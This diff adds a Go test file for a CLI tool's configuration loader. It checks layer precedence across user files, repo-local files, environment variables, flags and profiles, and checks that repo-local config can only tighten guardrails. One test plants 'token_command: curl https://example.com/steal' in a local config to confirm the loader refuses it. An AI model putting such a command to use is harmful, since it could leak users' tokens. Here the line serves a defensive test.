@@ -0,0 +1,193 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// setFlag calls SetFlag, forgetting the override when the test ends
+func setFlag(t *testing.T, flag, key, value string) {
+	t.Helper()
+	t.Cleanup(func() { flagOverrides = nil })
+	if err := SetFlag(flag, key, value); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func sourceOf(t *testing.T, cfg Config, key string) string {
+	t.Helper()
+	settings, err := cfg.Settings()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range settings {
+		if s.Key == key {
+			return s.Value + " from " + s.Source
+		}
+	}
+	t.Fatalf("no setting %s", key)
+	return ""
+}
+
+func TestLoad_Layers(t *testing.T) {
+	t.Setenv("HIJ_PROFILE", "")
+	user := writeConfig(t, "owner: octo\npackage_type: npm\nui:\n  sort_order: oldest\nprotected_tags: [\"v*\"]\n")
+	local := filepath.Join(t.TempDir(), localConfigName)
+	if err := os.WriteFile(local, []byte("guardrails:\n  max_versions: 50\nui:\n  old_after: 7d\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("HIJ_GUARDRAILS_MAX_PERCENT", "20")
+	t.Setenv("HIJ_PACKAGE_TYPE", "maven")
+	setFlag(t, "--package-type", "package_type", "nuget")
+
+	cfg, err := load([]layer{{path: user}, {path: local, local: true}}, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.UI.SortOrder != "oldest" || cfg.OldAfter() != 7*24*time.Hour || cfg.HTTPTimeout() != 30*time.Second {
+		t.Errorf("ui = %+v, timeout %v", cfg.UI, cfg.HTTPTimeout())
+	}
+
+	for key, want := range map[string]string{
+		"owner":                   "octo from " + user,
+		"guardrails.max_versions": "50 from " + local,
+		"ui.sort_order":           "oldest from " + user,
+		"protected_tags":          "[v*] from " + user,
+		"guardrails.max_percent":  "20 from env HIJ_GUARDRAILS_MAX_PERCENT",
+		"package_type":            "nuget from flag --package-type",
+		"http.timeout":            "30s from default",
+	} {
+		if got := sourceOf(t, cfg, key); got != want {
+			t.Errorf("%s = %s, want %s", key, got, want)
+		}
+	}
+}
+
+func TestLoad_OverridesBeatProfile(t *testing.T) {
+	path := writeConfig(t, "profiles:\n  acme:\n    owner: acme\n    package_type: npm\n")
+	t.Setenv("HIJ_PROFILE", "acme")
+	t.Setenv("HIJ_OWNER", "octo")
+
+	cfg, err := LoadFile(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if got := sourceOf(t, cfg, "owner"); got != "octo from env HIJ_OWNER" {
+		t.Errorf("owner = %s, want the environment to win", got)
+	}
+	if got := sourceOf(t, cfg, "package_type"); got != "npm from profile acme" {
+		t.Errorf("package_type = %s", got)
+	}
+	if got := sourceOf(t, cfg, "profile"); got != "acme from env HIJ_PROFILE" {
+		t.Errorf("profile = %s", got)
+	}
+}
+
+func TestLoad_Invalid(t *testing.T) {
+	t.Setenv("HIJ_PROFILE", "")
+	local := filepath.Join(t.TempDir(), localConfigName)
+	if err := os.WriteFile(local, []byte("token_command: curl https://example.com/steal\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := load([]layer{{path: local, local: true}}, ""); err == nil || !strings.Contains(err.Error(), "token_command can only be set in config.yaml") {
+		t.Errorf("error = %v, want .hij.yaml refused to set the token command", err)
+	}
+
+	t.Setenv("HIJ_GUARDRAILS_MAX_VERSIONS", "many")
+	if _, err := LoadFile(writeConfig(t, "")); err == nil || !strings.Contains(err.Error(), "env HIJ_GUARDRAILS_MAX_VERSIONS") {
+		t.Errorf("error = %v, want the variable named", err)
+	}
+
+	if err := SetFlag("--set", "ui.colour", "blue"); err == nil {
+		t.Error("expected an error for an unknown setting")
+	}
+}
+
+func TestLoad_LocalOnlyTightens(t *testing.T) {
+	t.Setenv("HIJ_PROFILE", "")
+	user := writeConfig(t, "protected_tags: [\"v*\"]\npackages:\n  web:\n    protected_tags: [prod]\nguardrails:\n  max_percent: 50\n")
+	local := filepath.Join(t.TempDir(), localConfigName)
+	write := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(local, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	for content, want := range map[string]string{
+		"protect:\n  releases: false\n":            "protect.releases can only be turned off in config.yaml",
+		"guardrails:\n  keep_last_tagged: false\n": "guardrails.keep_last_tagged can only be turned off",
+		"guardrails:\n  max_percent: 80\n":         "guardrails.max_percent can only be lowered from 50",
+		"guardrails:\n  confirm_threshold: 0\n":    "guardrails.confirm_threshold can only be lowered from 10",
+		"owner: someone-else\n":                    "owner can only be set in config.yaml",
+		"archive:\n  dir: /tmp/elsewhere\n":        "archive.dir can only be set in config.yaml",
+		"filters:\n  saved_file: /tmp/filters\n":   "filters.saved_file can only be set in config.yaml",
+	} {
+		write(content)
+		if _, err := load([]layer{{path: user}, {path: local, local: true}}, ""); err == nil || !strings.Contains(err.Error(), want) {
+			t.Errorf("%q: error = %v, want %q", content, err, want)
+		}
+	}
+
+	write("protected_tags: [latest]\npackages:\n  web:\n    protected_tags: []\n  api:\n    protected_tags: [stable]\n  worker: {}\n" +
+		"guardrails:\n  max_percent: 20\nreferences:\n  paths: [./k8s]\nprotect:\n  releases: true\n")
+	cfg, err := load([]layer{{path: user}, {path: local, local: true}}, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	for name, want := range map[string]string{
+		"":       "v* latest",
+		"web":    "prod",
+		"api":    "v* latest stable",
+		"worker": "v* latest",
+	} {
+		if got := strings.Join(cfg.ProtectedTagsFor(name), " "); got != want {
+			t.Errorf("protected tags of %q = %s, want %s", name, got, want)
+		}
+	}
+	if cfg.Guardrails.MaxPercent != 20 || strings.Join(cfg.References.Paths, " ") != "./k8s" {
+		t.Errorf("max_percent = %d, references = %v", cfg.Guardrails.MaxPercent, cfg.References.Paths)
+	}
+}
+
+func TestFindLocalConfig(t *testing.T) {
+	root := t.TempDir()
+	sub := filepath.Join(root, "deploy", "k8s")
+	if err := os.MkdirAll(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(root, ".git"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(wd) })
+	if err := os.Chdir(sub); err != nil {
+		t.Fatal(err)
+	}
+
+	if path := findLocalConfig(); path != "" {
+		t.Errorf("findLocalConfig() = %q, want none", path)
+	}
+	want := filepath.Join(root, localConfigName)
+	if err := os.WriteFile(want, []byte("owner: acme\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if path, _ := filepath.EvalSymlinks(findLocalConfig()); path != mustEval(t, want) {
+		t.Errorf("findLocalConfig() = %q, want %q", path, want)
+	}
+}
+
+func mustEval(t *testing.T, path string) string {
+	t.Helper()
+	path, err := filepath.EvalSymlinks(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return path
+}